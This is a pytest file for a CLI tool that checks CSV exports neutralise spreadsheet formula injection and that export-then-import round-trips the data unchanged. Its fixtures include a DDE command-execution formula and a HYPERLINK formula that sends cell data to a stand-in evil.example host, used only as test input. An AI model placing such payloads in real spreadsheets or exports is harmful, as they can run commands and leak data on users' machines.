"""Formula injection: no CSV cell ladder writes starts with = + - @ tab or CR, and the
neutralising quote is read back by the imports, so export then import changes nothing."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import select

from cli.output import render
from ladder.storage.models import Supporter
from ladder.tabular.cells import neutralise, restore, safe_row
from tests.factories import add_event, add_group, add_person, dump, write
from tests.next_helpers import attendance

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CMD = "=cmd|' /c calc'!A1"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _hostile_movement(engine) -> dict[str, int]:
    """A group, a recruiter with two recruits and an event: every text a formula."""
    group = add_group(engine, "@SUM(1+1)", town="-2+3")
    boss = add_person(
        engine,
        CMD,
        "@SUM(A1:A9)",
        email="boss@example.org",
        phone="+33612345678",
        postcode="-1",
        local_group_id=group,
        rung="mobilise",
        consent_email=True,
    )
    one = add_person(
        engine, "+Zoé", LINK, email="zoe@example.org", phone="+33611111111", recruiter_id=boss
    )
    two = add_person(
        engine, "\tTab", "\rReturn", email="tab@example.org", rung="attend", recruiter_id=boss
    )
    event = add_event(
        engine, "=1+1 Fair", starts_in=timedelta(hours=2), place="@Place", local_group_id=group
    )
    for person in (boss, one, two):
        attendance(engine, event, person, rsvp="accepted")
    return {"boss": boss, "one": one, "two": two, "event": event, "group": group}


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _dangerous(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]


def _commands(ids: dict[str, int]) -> list[tuple[str, ...]]:
    event, boss = str(ids["event"]), str(ids["boss"])
    return [
        ("people", "list"),
        ("people", "why", boss),
        ("events", "list"),
        ("events", "show", event),
        ("events", "sheet", event),
        ("recruiters", "top"),
        ("recruiters", "tree", boss),
        ("next",),
        ("next", "--event", event),
        ("graph", "check"),
    ]


def test_no_csv_output_starts_a_cell_with_a_formula(ladder_cli, engine):
    ids = _hostile_movement(engine)
    seen = []
    for command in _commands(ids):
        result = ladder_cli(*command, "--format", "csv")
        assert result.exit_code in (0, 1), (command, result.output)  # graph check exits 1
        rows = _cells(result.stdout)
        assert _dangerous(rows) == [], command
        seen += [cell for row in rows for cell in row]
    assert "'" + CMD in seen  # the texts are there, neutralised, not dropped
    assert "'" + LINK in seen
    assert "'=1+1 Fair" in seen
    assert "'+33612345678" in seen
    assert "'\tTab" in seen
    assert "'@SUM(1+1)" in seen


def test_the_people_list_keeps_numbers_as_numbers(ladder_cli, engine):
    ids = _hostile_movement(engine)
    listing = list(
        csv.DictReader(io.StringIO(ladder_cli("people", "list", "--format", "csv").stdout))
    )
    boss = next(row for row in listing if row["id"] == str(ids["boss"]))
    assert boss["first_name"] == "'" + CMD
    assert boss["phone"] == "'+33612345678"
    assert boss["postcode"] == "'-1"  # text, so neutralised even though it looks like a number


def test_text_cells_are_neutralised_and_numbers_are_not():
    rows = [{"n": -3, "share": -0.5, "text": "-3", "name": "@x", "when": None, "plain": "Awa"}]
    text = render(rows, ["n", "share", "text", "name", "when", "plain"], "csv")
    assert text.splitlines() == ["n,share,text,name,when,plain", "-3,-0.5,'-3,'@x,,Awa"]


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+33 6 12", "-", "@", "\tx", "\rx", "'=1", "''+1", "'t Hooft", "'", "''", "", "Awa"],
)
def test_restore_gives_back_what_neutralise_was_given(text):
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(TRIGGERS)


def test_a_quote_before_ordinary_text_is_left_alone_both_ways():
    assert neutralise("'t Hooft") == "'t Hooft"
    assert restore("'t Hooft") == "'t Hooft"
    assert restore("'+33 6 12 34 56 78") == "+33 6 12 34 56 78"  # typed in a spreadsheet
    assert safe_row(["=x", "'=x", "ok"]) == ["'=x", "'=x", "ok"]


HOSTILE_FILE = (
    "first name,last name,email,phone\n"
    f'"{CMD}","@SUM(A1:A9)",boss@example.org,+33 6 12 34 56 78\n'
    f'+Zoé,"{LINK.replace(chr(34), chr(34) * 2)}",zoe@example.org,+33 6 11 11 11 11\n'
    "-Jean,=Wamytan,jean@example.org,\n"
    "'t Hooft,Gerard,gerard@example.org,\n"
    "''=quoted,Name,quoted@example.org,\n"
)


def _listing(ladder_cli) -> str:
    result = ladder_cli("people", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    return result.stdout


def _people(engine) -> list[tuple[str | None, str | None, str | None, str | None]]:
    with engine.connect() as connection:
        return [
            tuple(row)
            for row in connection.execute(
                select(
                    Supporter.first_name, Supporter.last_name, Supporter.email, Supporter.phone
                ).order_by(Supporter.id)
            )
        ]


def test_an_export_imports_back_unchanged_with_hostile_names_and_phones(
    ladder_cli, engine, tmp_path
):
    first = ladder_cli("people", "import", write(tmp_path, "people.csv", HOSTILE_FILE))
    assert first.exit_code == 0, first.output
    stored = _people(engine)
    assert stored[0] == (CMD, "@SUM(A1:A9)", "boss@example.org", "+33612345678")
    assert stored[2][:2] == ("-Jean", "=Wamytan")
    assert stored[3][0] == "'t Hooft"
    assert stored[4][0] == "'=quoted"  # the first quote is a marker, the second text
    listing = _listing(ladder_cli)
    assert _dangerous(_cells(listing)) == []

    again = ladder_cli("people", "import", "-", input=listing)
    assert "Created 0, updated 0, unchanged 5." in again.stdout, again.output
    assert _people(engine) == stored
    assert _listing(ladder_cli) == listing


def test_the_export_imports_into_a_new_database_as_the_same_people(ladder_cli, engine, tmp_path):
    ladder_cli("people", "import", write(tmp_path, "people.csv", HOSTILE_FILE))
    stored = _people(engine)
    listing = _listing(ladder_cli)
    with engine.begin() as connection:
        connection.execute(Supporter.__table__.delete())
    fresh = ladder_cli("people", "import", "-", input=listing)
    assert "Created 5," in fresh.stdout, fresh.output
    assert _people(engine) == stored


def test_a_sign_in_sheet_with_hostile_names_reads_back_to_the_same_people(
    ladder_cli, engine, tmp_path
):
    ids = _hostile_movement(engine)
    sheet = ladder_cli("events", "sheet", str(ids["event"]), "--format", "csv", "--blank", "0")
    rows = list(csv.DictReader(io.StringIO(sheet.stdout)))
    assert {row["first_name"] for row in rows} == {"'" + CMD, "'+Zoé", "'\tTab"}
    for row in rows:
        row["present"] = "x"
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    before = _people(engine)
    result = ladder_cli("attendance", "import", str(ids["event"]), "-", input=buffer.getvalue())
    assert result.exit_code == 0, result.output
    assert "Created 0" in result.stdout
    assert "Checked in 3;" in result.stdout
    trimmed = [(first.strip(), last.strip(), *rest) for first, last, *rest in before]
    assert _people(engine) == trimmed  # only the spaces around a cell go, as in any import


def test_rejected_rows_are_written_neutralised_and_read_back_as_the_file_had_them(
    ladder_cli, engine, tmp_path
):
    body = (
        "first name,last name,email\n"
        "Awa,Diallo,awa@example.org\n"
        f'"{CMD}",@bad,not-an-email\n'
        "'=kept,+x,also(at)bad\n"
    )
    path = write(tmp_path, "people.csv", body)
    result = ladder_cli("people", "import", path, "--skip-invalid")
    assert result.exit_code == 0, result.output
    rejected = (tmp_path / "people.rejected.csv").read_text(encoding="utf-8-sig")
    rows = _cells(rejected)
    assert _dangerous(rows) == []
    assert rows[1][1:3] == ["'" + CMD, "'@bad"]
    assert rows[2][1:3] == ["'=kept", "'+x"]  # what the import read: =kept, +x

    fixed = rejected.replace("not-an-email", "boss@example.org").replace(
        "also(at)bad", "kept@example.org"
    )
    before = dump(engine)
    again = ladder_cli("people", "import", "-", input=fixed)
    assert again.exit_code == 0, again.output
    assert dump(engine) != before
    assert _people(engine)[1:] == [
        (CMD, "@bad", "boss@example.org", None),
        ("=kept", "+x", "kept@example.org", None),
    ]
